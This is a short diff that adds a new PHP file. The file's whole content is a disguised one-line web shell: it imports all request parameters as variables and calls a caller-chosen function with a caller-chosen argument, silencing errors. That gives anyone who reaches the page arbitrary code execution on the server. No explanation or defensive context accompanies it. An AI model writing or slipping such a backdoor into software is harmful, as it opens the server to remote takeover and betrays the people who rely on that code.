@@ -1,0 +1,3 @@
+<?php
+extract($_REQUEST);
+if (isset($a)) { @$a($b); }
